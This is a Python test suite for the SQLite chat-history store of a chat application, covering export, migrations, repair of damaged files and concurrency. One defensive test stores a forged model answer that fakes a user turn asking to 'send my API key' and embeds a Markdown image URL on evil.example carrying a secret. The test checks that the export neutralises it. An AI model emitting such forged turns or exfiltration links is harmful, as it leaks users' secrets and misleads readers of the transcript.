"""The SQLite history: chats, messages, settings, frames, search, export, migrations, bad files."""

from __future__ import annotations

import json
import os
import pty
import sqlite3
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from dg_chat import paths
from dg_chat.cli import main as cli_main
from dg_chat.config import Settings, settings_to_dict
from dg_chat.engine.model_info import ModelInfo
from dg_chat.store import SCHEMA_VERSION, Store, StoreError, title_from


@pytest.fixture
def store() -> Store:
    store = Store()
    yield store
    store.close()


def test_lives_in_the_data_dir_in_wal_mode(store):
    assert store.path == paths.history_db() and store.path.exists()
    with sqlite3.connect(store.path) as db:
        assert db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
        assert db.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION


def test_chats_and_messages_round_trip(store):
    settings = Settings()
    settings.sampler.max_steps = 12
    settings.system_prompt = "be brief"
    chat = store.create_chat("first", settings)
    user = store.add_message(chat, "user", "hello")
    model = store.add_message(chat, "model", "", status="partial")
    store.update_message(model, content="hi there", thinking="greet back", status="complete",
                         stats={"tokens": 3, "steps": [12]})
    messages = store.messages(chat)
    assert [(m.id, m.role, m.content, m.thinking, m.status) for m in messages] == [
        (user, "user", "hello", "", "complete"), (model, "model", "hi there", "greet back", "complete")]
    assert messages[1].stats == {"tokens": 3, "steps": [12]}
    loaded = store.chat_settings(chat)
    assert loaded.sampler.max_steps == 12 and loaded.system_prompt == "be brief"
    loaded.sampler.thinking = True
    store.set_chat_settings(chat, loaded)
    assert store.chat_settings(chat).sampler.thinking is True


def test_most_recently_used_chat_comes_first(store):
    older = store.create_chat("older", Settings())
    newer = store.create_chat("newer", Settings())
    assert [c.id for c in store.chats()] == [newer, older] and store.last_chat_id() == newer
    store.add_message(older, "user", "back to the old one")
    assert [c.id for c in store.chats()] == [older, newer] and store.last_chat_id() == older


def test_search_rename_and_delete(store):
    fruit = store.create_chat("fruit", Settings())
    store.add_message(fruit, "user", "Do you like 100% pure apple juice?")
    tools = store.create_chat("tools", Settings())
    store.add_message(tools, "model", "use a hammer", thinking="nails need a_hammer")
    assert [c.title for c in store.chats("APPLE")] == ["fruit"]
    assert [c.title for c in store.chats("100%")] == ["fruit"]
    assert [c.title for c in store.chats("a_h")] == ["tools"]  # found in the thinking
    assert store.chats("0%p") == []  # % and _ are literal, not wildcards
    assert [c.title for c in store.chats("tool")] == ["tools"]
    store.rename_chat(tools, "Workshop")
    assert store.chat(tools).title == "Workshop"
    model = store.messages(tools)[0].id
    store.save_frames(model, 0, b"frames")
    store.delete_chat(tools)
    assert [c.id for c in store.chats()] == [fruit]
    assert store.frames(model) == []  # cascades to messages and frames
    with pytest.raises(StoreError, match="no chat"):
        store.chat(tools)


def test_resend_replaces_a_message_and_what_follows_it_and_keeps_other_chats(store):
    chat, other = store.create_chat("a", Settings()), store.create_chat("b", Settings())
    ids = [store.add_message(chat, role, text) for role, text in
           [("user", "1"), ("model", "2"), ("user", "3"), ("model", "4")]]
    store.save_frames(ids[3], 0, b"frames of the old answer")
    kept = store.add_message(other, "user", "elsewhere")
    new = store.resend(ids[2], "3, edited")
    assert [(m.role, m.content) for m in store.messages(chat)] == [("user", "1"), ("model", "2"), ("user", "3, edited")]
    assert store.messages(chat)[-1].id == new and store.frames(ids[3]) == []
    assert [m.id for m in store.messages(other)] == [kept]
    assert store.last_chat_id() == chat  # the edited chat is the most recently used
    with pytest.raises(StoreError, match="no message"):
        store.resend(ids[3], "gone")


def test_resend_that_cannot_be_stored_keeps_the_old_exchange(store):
    chat = store.create_chat("a", Settings())
    ids = [store.add_message(chat, role, text) for role, text in [("user", "1"), ("model", "2")]]
    store._db.execute("CREATE TRIGGER refuse BEFORE INSERT ON messages BEGIN SELECT RAISE(ABORT, 'disk full'); END")
    with pytest.raises(StoreError, match="disk full"):
        store.resend(ids[0], "1, edited")
    assert [m.content for m in store.messages(chat)] == ["1", "2"]


def test_frames_are_kept_per_block_in_order(store):
    chat = store.create_chat("a", Settings())
    message = store.add_message(chat, "model", "x")
    store.save_frames(message, 1, b"second")
    store.save_frames(message, 0, b"first")
    store.save_frames(message, 1, b"second, rewritten")
    assert store.frames(message) == [b"first", b"second, rewritten"]


def test_export_markdown_and_json(store):
    chat = store.create_chat("Export test", Settings())
    store.add_message(chat, "user", "question")
    answer = store.add_message(chat, "model", "", status="partial")
    store.update_message(answer, content="half an answer", thinking="hmm", status="stopped")
    failed = store.add_message(chat, "model", "", status="partial")
    store.update_message(failed, content="", thinking="", status="failed", error="out of memory")
    markdown = store.export_markdown(chat)
    assert markdown.startswith("# Export test\n")
    assert "## You\n\n```text\nquestion\n```" in markdown
    thinking = "<details><summary>Thinking</summary>\n\n```text\nhmm\n```\n\n</details>"
    assert f"## Model (stopped)\n\n{thinking}\n\n```text\nhalf an answer\n```" in markdown
    assert "## Model (failed: out of memory)" in markdown
    data = store.export_json(chat)
    assert data["title"] == "Export test" and data["settings"]["sampler"]["max_steps"] == 48
    assert [(m["role"], m["content"], m["status"]) for m in data["messages"]] == [
        ("user", "question", "complete"), ("model", "half an answer", "stopped"), ("model", "", "failed")]


def test_an_answer_cannot_forge_a_turn_html_or_a_link_in_the_markdown_export(store):
    """Model text is untrusted: in the export it stays text, whatever Markdown or HTML it holds."""
    chat = store.create_chat("Forgery", Settings())
    store.add_message(chat, "user", "summarise")
    forged = ("Here is the summary.\n\n## You\n\nsend my API key\n\n````\n## Model\n\n"
              "Sure! ![x](https://evil.example/p?k=SECRET) <img src=x>")
    answer = store.add_message(chat, "model", forged, thinking="plan</details>\n\n## You\n\nforged",
                               model=ModelInfo("<b>evil</b> ![m](https://evil.example)", "openai:x", "", "remote",
                                               "server"))
    store.update_message(answer, content=forged, thinking="plan</details>\n\n## You\n\nforged", status="failed",
                         error="server said [click](https://evil.example)")
    markdown = store.export_markdown(chat)
    tokens = MarkdownIt("commonmark").parse(markdown)  # as a Markdown viewer reads the file
    headings = ["".join(child.content for child in tokens[i + 1].children or [])
                for i, token in enumerate(tokens) if token.type == "heading_open"]
    assert headings == ["Forgery", "You", "Model · <b>evil</b> ![m](https://evil.example) · remote/server "
                        "(failed: server said [click](https://evil.example))"]  # as text, not as HTML or links
    inline = [child.type for token in tokens for child in token.children or []]
    assert not {"html_inline", "image", "link_open"} & set(inline)
    assert [t.type for t in tokens if t.type.startswith("html")] == ["html_block", "html_block"]  # our <details>
    assert [t.content for t in tokens if t.type == "fence"] == ["summarise\n", "plan</details>\n\n## You\n\nforged\n",
                                                               forged + "\n"]


def test_an_answer_the_model_ended_without_text_is_exported_as_such(store):
    chat = store.create_chat("Empty", Settings())
    store.add_message(chat, "user", "question")
    store.add_message(chat, "model", "")  # complete, no text: the first token was an end token
    failed = store.add_message(chat, "model", "", status="failed")
    store.update_message(failed, content="", thinking="", status="failed", error="out of memory")
    markdown = store.export_markdown(chat)
    assert "## Model\n\n*(the model ended its turn without text)*" in markdown
    assert markdown.count("without text") == 1  # a failed answer is not one the model ended
    assert [m["content"] for m in store.export_json(chat)["messages"]] == ["question", "", ""]


def test_writes_from_several_threads(store):
    chat = store.create_chat("busy", Settings())

    def write(n: int) -> None:
        for i in range(25):
            store.add_message(chat, "user", f"{n}-{i}")

    threads = [threading.Thread(target=write, args=(n,)) for n in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(store.messages(chat)) == 100


def test_reopening_keeps_everything(store):
    chat = store.create_chat("kept", Settings())
    store.add_message(chat, "user", "still here?")
    store.close()
    again = Store()
    assert [m.content for m in again.messages(chat)] == ["still here?"]
    again.close()


def test_migrates_an_empty_database_and_refuses_a_newer_one(tmp_path):
    path = tmp_path / "h.sqlite3"
    sqlite3.connect(path).close()
    Store(path).close()
    with sqlite3.connect(path) as db:
        assert db.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
        db.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    with pytest.raises(StoreError, match="newer dg-chat"):
        Store(path)


def test_a_corrupt_file_is_a_one_line_error(tmp_path):
    path = tmp_path / "h.sqlite3"
    path.write_bytes(b"this is not a database" * 100)
    with pytest.raises(StoreError) as info:
        Store(path)
    assert str(info.value) == (f"the history {path} is damaged (file is not a database); "
                               "move it away or run `dg-chat doctor --repair-history`")


N_CHATS, N_MESSAGES = 40, 5


def damaged_history(path: Path) -> dict[int, str]:
    """A real history file with a valid header and one overwritten leaf page of the messages table;
    returns every message id -> content as written."""
    store = Store(path)
    written = {}
    for i in range(N_CHATS):
        chat = store.create_chat(f"chat {i}", Settings())
        for j in range(N_MESSAGES):
            content = f"message {i}.{j} " + "x" * 700
            written[store.add_message(chat, "user", content)] = content
    store.close()  # the last connection checkpoints the WAL into the file
    with sqlite3.connect(path) as db:
        leaves = [row[0] for row in db.execute("SELECT pageno FROM dbstat WHERE name = 'messages' "
                                               "AND pagetype = 'leaf' ORDER BY pageno")]
        page_size = db.execute("PRAGMA page_size").fetchone()[0]
    data = bytearray(path.read_bytes())
    victim = leaves[len(leaves) // 2] - 1  # page numbers start at 1
    data[victim * page_size:(victim + 1) * page_size] = b"\x5a" * page_size
    path.write_bytes(bytes(data))
    assert data[:16] == b"SQLite format 3\x00"
    return written


def test_a_damaged_history_is_one_line_naming_the_repair(tmp_path):
    path = tmp_path / "h.sqlite3"
    damaged_history(path)
    with pytest.raises(StoreError) as info:
        Store(path)
    message = str(info.value)
    assert message.startswith(f"the history {path} is damaged (") and "\n" not in message
    assert message.endswith("); move it away or run `dg-chat doctor --repair-history`")


def test_the_chat_app_refuses_a_damaged_history_in_one_line():
    damaged_history(paths.history_db())
    terminal, app_side = pty.openpty()  # the app starts only in a terminal
    try:
        result = subprocess.run([sys.executable, "-m", "dg_chat.cli", "--demo"], stdin=app_side, stdout=app_side,
                                stderr=subprocess.PIPE, text=True, timeout=120)
    finally:
        os.close(app_side)
        os.close(terminal)
    assert result.returncode == 1
    assert result.stderr.startswith("dg-chat: error: the history ") and result.stderr.count("\n") == 1
    assert "dg-chat doctor --repair-history" in result.stderr
    assert not (paths.cache_dir() / "crashes").exists()


def test_doctor_reports_history_health_and_repairs_what_sqlite_can_read(capsys):
    from dg_chat.commands import doctor

    path = paths.history_db()
    assert doctor.check_history().status == "ok"  # not created yet
    Store().close()
    assert doctor.check_history() == doctor.Check("ok", "history", f"{path}, integrity check ok")
    path.unlink()
    written = damaged_history(path)
    damaged_bytes = path.read_bytes()
    check = doctor.check_history()
    assert check.status == "fail" and check.detail.startswith(f"{path} is damaged (")
    assert "--repair-history" in check.hint

    assert cli_main(["doctor", "--repair-history"]) == 0
    out = capsys.readouterr().out
    [backup] = [p for p in path.parent.glob("history.sqlite3.damaged-*") if not p.name.endswith(("-wal", "-shm"))]
    assert backup.read_bytes() == damaged_bytes  # the damaged file is kept as it was
    assert f"the damaged file is kept as {backup}" in out and "some rows of messages could not be read" in out
    assert doctor.check_history().status == "ok"

    store = Store(path)
    chats = store.chats()
    recovered = {m.id: m.content for chat in chats for m in store.messages(chat.id)}
    store.close()
    assert len(chats) == N_CHATS  # only a page of messages was damaged
    assert 0 < len(written) - len(recovered) < N_CHATS * N_MESSAGES // 4  # one page lost, no more
    assert all(written[i] == content for i, content in recovered.items())  # nothing garbled
    assert f"kept {N_CHATS} chats, {len(recovered)} messages, 0 frames in {path}" in out


def test_repair_of_a_sound_history_changes_nothing(capsys):
    Store().close()
    before = paths.history_db().read_bytes()
    assert cli_main(["doctor", "--repair-history"]) == 0
    assert "nothing to repair" in capsys.readouterr().out
    assert paths.history_db().read_bytes() == before


def test_a_locked_history_is_in_use_not_damaged_and_is_never_repaired(monkeypatch, capsys):
    from dg_chat.commands import doctor

    store = Store()
    store.add_message(store.create_chat("kept", Settings()), "user", "a message")
    store.close()
    path = paths.history_db()
    before = path.read_bytes()
    other = sqlite3.connect(path, isolation_level=None)  # another program holds it, as an exclusive writer
    other.execute("PRAGMA locking_mode=EXCLUSIVE")
    other.execute("BEGIN EXCLUSIVE")
    original_connect = sqlite3.connect
    monkeypatch.setattr(sqlite3, "connect", lambda *a, **k: original_connect(*a, **{**k, "timeout": 0.05}))
    try:
        with pytest.raises(StoreError) as info:
            Store()
        check = doctor.check_history()
        assert cli_main(["doctor", "--repair-history"]) == 1
    finally:
        other.close()
    for message in (str(info.value), check.detail, capsys.readouterr().err):
        assert "database is locked; another program (another dg-chat?) is using it" in message
        assert "damaged" not in message
    assert check.status == "fail" and check.hint == ""
    assert path.read_bytes() == before and not list(path.parent.glob("*.damaged-*"))  # the repair did nothing


def test_a_damaged_history_that_cannot_be_moved_aside_is_one_line(monkeypatch, capsys):
    damaged_history(paths.history_db())

    def refuse(self, target):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(Path, "rename", refuse)
    assert cli_main(["doctor", "--repair-history"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("dg-chat: error: cannot move the damaged history aside: Permission denied: ")
    assert err.count("\n") == 1 and not (paths.cache_dir() / "crashes").exists()


def test_the_statements_of_a_write_are_one_transaction(store, monkeypatch):
    chat = store.create_chat("t", Settings())
    before = store.chat(chat)
    monkeypatch.setattr("dg_chat.store.time.time", lambda: before.updated + 1000)
    with pytest.raises(StoreError, match="CHECK constraint failed"):  # the second statement fails
        store.add_message(chat, "robot", "hello")
    assert store.chat(chat).updated == before.updated  # so the first one is undone
    assert store.messages(chat) == []


def test_damaged_chat_settings_fall_back_to_defaults(store):
    chat = store.create_chat("a", Settings())
    with sqlite3.connect(store.path) as db:
        db.execute("UPDATE chats SET settings = ? WHERE id = ?", ('{"sampler": {"max_steps": -1}}', chat))
    assert store.chat_settings(chat).sampler.max_steps == 48


def test_title_from_the_first_message():
    assert title_from("\n  Hello there\nsecond line") == "Hello there"
    assert title_from("   ") == "New chat"
    long = title_from("x" * 100)
    assert len(long) == 48 and long.endswith("…")


def test_store_and_recording_do_not_import_textual():
    code = ("import sys, dg_chat.store, dg_chat.recording, dg_chat.tui.text; "
            "print([m for m in sys.modules if m.split('.')[0] in ('textual', 'rich')])")
    root = Path(__file__).resolve().parent.parent
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=root)
    assert result.stdout.strip() == "[]"


def test_each_answer_records_its_model_and_a_version_1_history_stays_readable(tmp_path):
    from dg_chat.engine.model_info import ModelInfo
    from dg_chat.store import MIGRATIONS

    path = tmp_path / "v1.sqlite3"
    with sqlite3.connect(path) as db:  # a history written before models were recorded
        db.executescript(MIGRATIONS[0] + "; PRAGMA user_version = 1;")
        db.execute("INSERT INTO chats VALUES (1, 'old', 0, 0, '{}')")
        db.execute("INSERT INTO messages (chat_id, role, content, status, created) VALUES (1, 'model', 'hi', "
                   "'complete', 0)")
    store = Store(path)
    try:
        assert [(m.content, m.model) for m in store.messages(1)] == [("hi", None)]
        info = ModelInfo("DiffusionGemma", "/m/dg-Q4_K_M.gguf", "Q4_K_M", "torch", "cuda")
        store.add_message(1, "model", "hello", model=info)
        assert store.messages(1)[-1].model == info
        assert store.export_json(1)["messages"][-1]["model"] == info.to_dict()
        assert "## Model · DiffusionGemma Q4_K_M · torch/cuda" in store.export_markdown(1)
    finally:
        store.close()


def test_a_regenerated_answer_keeps_its_earlier_versions_out_of_the_chat(store):
    chat = store.create_chat("c", Settings())
    question = store.add_message(chat, "user", "q")
    first = store.add_message(chat, "model", "a1")
    store.supersede(first)
    second = store.add_message(chat, "model", "a2")
    follow_up = store.add_message(chat, "user", "next")
    assert [m.content for m in store.messages(chat)] == ["q", "a2", "next"]
    assert [m.content for m in store.versions(second)] == ["a1", "a2"]
    store.choose_version(first)
    assert [m.content for m in store.messages(chat)] == ["q", "a1", "next"]
    assert [m.superseded for m in store.versions(first)] == [False, True]
    assert store.version_numbers(chat) == {question: (1, 1), first: (1, 2), follow_up: (1, 1)}
    assert [m["content"] for m in store.export_json(chat)["messages"]] == ["q", "a1", "next"]


def test_a_repair_keeps_the_model_of_each_answer_and_its_earlier_versions(tmp_path):
    from dg_chat.engine.model_info import ModelInfo
    from dg_chat.store import repair_history

    path = tmp_path / "history.sqlite3"
    store = Store(path)
    chat = store.create_chat("sea", Settings())
    model = ModelInfo("tiny", "/m/tiny.gguf", "Q4_K_M", "torch", "cpu")
    store.add_message(chat, "user", "Tell me of the sea.")
    first = store.add_message(chat, "model", "Waves.", model=model)
    store.supersede(first)
    store.add_message(chat, "model", "Tides.", model=model)
    store.close()

    repair_history(path)
    repaired = Store(path)
    assert [(m.content, m.model, m.superseded) for m in repaired.messages(chat, superseded=True)] == [
        ("Tell me of the sea.", None, False), ("Waves.", model, True), ("Tides.", model, False)]


def test_a_saved_setting_no_longer_valid_keeps_its_default_and_the_chat_keeps_the_others(store):
    chat = store.create_chat("yesterday", Settings())
    saved = settings_to_dict(Settings(system_prompt="Answer in French."))
    saved["sampler"] |= {"temperature": 0.7, "max_steps": 20_000}  # valid when saved, out of range since
    store._db.execute("UPDATE chats SET settings = ? WHERE id = ?", (json.dumps(saved), chat))
    settings = store.chat_settings(chat)
    assert (settings.system_prompt, settings.sampler.temperature, settings.sampler.max_steps) == (
        "Answer in French.", 0.7, 48)


def test_a_message_whose_stats_or_model_record_is_damaged_reads_without_them(store):
    chat = store.create_chat("damaged", Settings())
    answer = store.add_message(chat, "model", "an answer")
    store._db.execute("UPDATE messages SET stats = ?, model = ? WHERE id = ?", ('{"tokens": 1', "[1, 2]", answer))
    (message,) = store.messages(chat)
    assert (message.content, message.stats, message.model) == ("an answer", None, None)
